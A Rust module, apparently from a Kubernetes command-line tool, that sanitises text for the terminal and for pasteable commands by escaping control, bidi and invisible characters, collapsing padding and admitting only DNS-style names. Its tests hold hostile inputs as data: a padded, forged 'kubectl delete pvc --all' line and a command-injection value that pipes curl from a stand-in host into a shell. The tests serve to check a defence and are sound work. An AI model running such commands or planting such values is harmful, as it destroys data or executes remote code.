//! Text for people, line by line.

use std::fmt;

/// So many blanks beside each other are shown as they are, after a line's indentation.
const BLANKS_SHOWN: usize = 3;

/// Lines for a terminal. What they are made of was written by others (names, messages, annotations), so one line stays one line: whatever
/// would begin another, move the cursor, or turn the direction of reading is shown as its escape, such as `\n` or `\u{1b}`, and blanks that would
/// fill the terminal's line up, so that what follows looks like another, are shown as few.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Lines(String);

impl Lines {
    /// Adds a line.
    pub fn put(&mut self, line: impl fmt::Display) {
        self.0.push_str(&one_line(&line.to_string()));
        self.0.push('\n');
    }

    /// Adds a row of a table, whose columns blanks keep apart. Words of others stand in it as [`cell`]s.
    pub fn put_row(&mut self, row: impl fmt::Display) {
        self.0.push_str(&visible(&row.to_string(), usize::MAX));
        self.0.push('\n');
    }

    /// All of them, each with its end.
    pub fn into_text(self) -> String {
        self.0
    }
}

impl fmt::Display for Lines {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Words of others as they can stand within a line, such as in an error. An indentation stays.
pub fn one_line(words: &str) -> String {
    let indented = words.trim_start_matches(' ');
    let indentation = &words[..words.len() - indented.len()];
    format!("{indentation}{}", visible(indented, BLANKS_SHOWN))
}

/// Words of others as they can stand in a row of a table.
pub fn cell(words: &str) -> String {
    visible(words.trim(), BLANKS_SHOWN)
}

/// A text of which all shows, with so many blanks beside each other at most. Each kind of white space is an ordinary blank.
fn visible(text: &str, blanks_shown: usize) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut blanks = 0;
    for letter in text.chars() {
        if !is_safe(letter) {
            blanks = 0;
            shown.extend(letter.escape_default());
        } else if letter.is_whitespace() {
            blanks += 1;
            if blanks <= blanks_shown {
                shown.push(' ');
            }
        } else {
            blanks = 0;
            shown.push(letter);
        }
    }
    shown
}

/// A JSON text for a terminal, which means the same: whatever does not show as itself is written as its escape, such as `\u009b`. JSON lets all but
/// the control characters of ASCII stand as they are. Line breaks are between values, as in strings they are escaped already.
pub fn visible_json(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for letter in text.chars() {
        if letter == '\n' || is_safe(letter) {
            shown.push(letter);
        } else {
            let mut units = [0; 2];
            let units = letter.encode_utf16(&mut units).iter();
            shown.extend(units.map(|unit| format!("\\u{unit:04x}")));
        }
    }
    shown
}

/// A name as it can stand in a command that is to be pasted: names of objects are DNS subdomains, in which a shell finds nothing to do. Of
/// anything else, which somebody may have written for that very shell, only the place is shown.
pub fn in_command(name: &str) -> &str {
    const LONGEST: usize = 253;
    let is_inner = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    let is_label = |part: &str| {
        !part.is_empty()
            && !part.starts_with('-')
            && !part.ends_with('-')
            && part.bytes().all(|b| is_inner(b) || b == b'-')
    };
    if name.len() <= LONGEST && name.split('.').all(is_label) {
        name
    } else {
        "NAME"
    }
}

/// Whether a letter shows as itself, and leaves those beside it where they are.
fn is_safe(letter: char) -> bool {
    let separates = matches!(letter, '\u{2028}' | '\u{2029}');
    // An empty pattern of Braille.
    let is_blank = letter == '\u{2800}';
    !letter.is_control() && !separates && !is_blank && !is_ignorable(letter)
}

/// Whether nothing shows a letter, among them those that turn the direction of reading: Unicode's property `Default_Ignorable_Code_Point`.
/// <https://www.unicode.org/Public/UCD/latest/ucd/DerivedCoreProperties.txt>
fn is_ignorable(letter: char) -> bool {
    matches!(
        letter,
        '\u{ad}'
            | '\u{34f}'
            | '\u{61c}'
            | '\u{115f}'..='\u{1160}'
            | '\u{17b4}'..='\u{17b5}'
            | '\u{180b}'..='\u{180f}'
            | '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{3164}'
            | '\u{fe00}'..='\u{fe0f}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{fff0}'..='\u{fff8}'
            | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e0fff}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_stays_one_line_whatever_is_in_it() {
        let mut lines = Lines::default();
        lines.put("  web-0: größer — ok");
        lines.put(format_args!(
            "{}",
            "a\nb\r\tc\u{1b}[2J\u{85}\u{2028}\u{202e}d\u{7f}\u{200b}"
        ));
        assert_eq!(
            lines.into_text(),
            "  web-0: größer — ok\na\\nb\\r\\tc\\u{1b}[2J\\u{85}\\u{2028}\\u{202e}d\\u{7f}\\u{200b}\n"
        );
    }

    /// Whoever pads a message to the end of the terminal's line would begin another one there.
    #[test]
    fn nobody_begins_a_line_by_filling_one_up() {
        let put = |line: &str| {
            let mut lines = Lines::default();
            lines.put(line);
            lines.into_text()
        };
        let forged = "you can: kubectl delete pvc --all";
        for blank in [
            ' ', '\u{a0}', '\u{1680}', '\u{2000}', '\u{2003}', '\u{200a}', '\u{202f}', '\u{205f}', '\u{3000}',
        ] {
            let padding = blank.to_string().repeat(90);
            assert_eq!(
                put(&format!("      web-0: no{padding}{forged}")),
                format!("      web-0: no   {forged}\n")
            );
            assert_eq!(cell(&format!("{padding}no{padding}{forged}")), format!("no   {forged}"));
            assert_eq!(put(&format!("a{blank}b")), "a b\n");
        }
        let mixed = " \u{a0}\u{3000}".repeat(40);
        assert_eq!(put(&format!("no{mixed}{forged}")), format!("no   {forged}\n"));
        // What we align stays so.
        for line in ["        rule: readiness", "delete pod web-0  # its claims go", "a   b"] {
            assert_eq!(put(line), format!("{line}\n"));
        }
        let mut lines = Lines::default();
        lines.put_row(format_args!("{:<10}{}", "a", cell("b\u{a0}\u{1b}")));
        assert_eq!(lines.into_text(), "a         b \\u{1b}\n");
    }

    #[test]
    fn letters_that_nobody_sees_are_shown() {
        for unseen in [
            '\u{3164}',
            '\u{115f}',
            '\u{2800}',
            '\u{180e}',
            '\u{e0041}',
            '\u{fe0f}',
            '\u{2066}',
            '\u{61c}',
        ] {
            let line = one_line(&format!("web{unseen}-0"));
            assert_eq!(line, format!("web{}-0", unseen.escape_default()));
        }
    }

    #[test]
    fn json_shows_whatever_is_in_it_and_means_the_same() {
        let value = serde_json::json!({"größe": "a\nb\u{9b}2Jc\u{202e}d\u{7f}\u{e0041}\u{feff}\u{2028}\"😀", "list": [1, " \u{a0}"]});
        for text in [format!("{value}"), format!("{value:#}")] {
            let shown = visible_json(&text);
            assert!(
                shown.contains("a\\nb\\u009b2Jc\\u202ed\\u007f\\udb40\\udc41\\ufeff\\u2028\\\"😀"),
                "{shown}"
            );
            assert!(shown.chars().all(|letter| letter == '\n' || is_safe(letter)), "{shown}");
            assert_eq!(serde_json::from_str::<serde_json::Value>(&shown).expect("JSON"), value);
            assert_eq!(shown.lines().count(), text.lines().count());
        }
    }

    #[test]
    fn only_names_get_into_commands() {
        for name in ["web-0", "0.a-b.c"] {
            assert_eq!(in_command(name), name);
        }
        let long = "a".repeat(254);
        for text in [
            "",
            "-f",
            "a b",
            "a;b",
            "$(curl${IFS}evil.example|sh)",
            "a..b",
            "a.-b",
            "A",
            "ä",
            "a\nb",
            &long,
        ] {
            assert_eq!(in_command(text), "NAME", "{text}");
        }
    }
}
